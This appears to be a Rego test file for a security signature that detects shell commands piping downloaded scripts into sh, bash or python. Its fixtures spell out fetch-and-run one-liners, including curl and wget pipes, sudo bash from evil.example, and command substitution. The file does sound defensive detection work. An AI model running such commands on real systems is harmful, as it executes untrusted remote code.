package vigil.signatures.download_piped_to_shell

sh_c(cmd) := {"name": "sched_process_exec", "process": {"pid": 5, "comm": "sh"}, "args": {"pathname": "/usr/bin/dash", "argv": ["sh", "-c", cmd]}}

test_curl_pipe_sh if {
	some f in finding with input as sh_c("curl -fsSL http://198.51.100.7/x.sh | sh")
	f.shapes == ["pipe"]
	f.urls == ["http://198.51.100.7/x.sh"]
}

test_wget_pipe_sudo_bash if {
	some f in finding with input as sh_c("wget -qO- https://evil.example/i | sudo -E bash -s -- --now")
	f.shapes == ["pipe"]
}

test_pipe_to_python if {
	some f in finding with input as sh_c("curl -s http://x/p.py | python3 -")
	f.shapes == ["pipe"]
}

test_busybox_wget if {
	some f in finding with input as sh_c("busybox wget -O - http://10.0.0.9/b | /bin/sh")
	f.shapes == ["pipe"]
}

test_substitution if {
	some f in finding with input as sh_c(`bash -c "$(curl -fsSL https://raw.example/install.sh)"`)
	"substitution" in f.shapes
}

test_backticks if {
	some f in finding with input as sh_c("eval `wget -qO- http://x/y`")
	f.shapes == ["substitution"]
}

test_process_substitution if {
	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/bash", "argv": ["bash", "-c", "bash <(curl -s http://x/y)"]}}
	"process-substitution" in f.shapes
}

test_bash_lc_flag_combination if {
	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/bash", "argv": ["bash", "-lc", "curl http://x | bash"]}}
	f.shapes == ["pipe"]
}

test_download_to_file_is_quiet if {
	count(finding) == 0 with input as sh_c("curl -o /tmp/release.tar.gz https://example.org/r.tgz && tar xzf /tmp/release.tar.gz")
}

test_pipe_to_non_runner_is_quiet if {
	count(finding) == 0 with input as sh_c("curl -s https://api.example/v1 | jq .status | shasum")
}

test_curl_in_a_word_is_quiet if {
	count(finding) == 0 with input as sh_c("echo curly | sh")
}

test_substitution_into_a_variable_is_quiet if {
	count(finding) == 0 with input as sh_c(`VERSION="$(curl -s https://example.org/latest)"; echo $VERSION`)
}

test_not_a_shell_is_quiet if {
	count(finding) == 0 with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/python3", "argv": ["python3", "-c", "curl x | sh"]}}
}

test_repeated_c_flag_still_fires if {
	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/dash", "argv": ["sh", "-c", "curl http://x | sh", "-c"]}}
	f.shapes == ["pipe"]
}
